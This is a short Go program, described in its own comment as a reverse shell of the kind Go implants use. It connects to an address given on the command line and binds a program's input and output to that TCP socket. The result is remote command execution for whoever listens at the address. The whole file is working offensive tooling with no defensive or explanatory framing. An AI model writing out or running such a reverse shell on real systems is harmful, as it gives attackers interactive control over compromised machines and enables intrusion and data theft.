// A reverse shell as Go implants do it: connect ADDRESS:PORT PROGRAM [ARGS...]
package main

import (
	"net"
	"os"
	"os/exec"
)

func main() {
	connection, err := net.Dial("tcp", os.Args[1])
	if err != nil {
		panic(err)
	}
	// As a file: given the connection itself, os/exec would relay through pipes.
	file, err := connection.(*net.TCPConn).File()
	if err != nil {
		panic(err)
	}
	shell := exec.Command(os.Args[2], os.Args[3:]...)
	shell.Stdin, shell.Stdout, shell.Stderr = file, file, file
	if err := shell.Run(); err != nil {
		panic(err)
	}
}
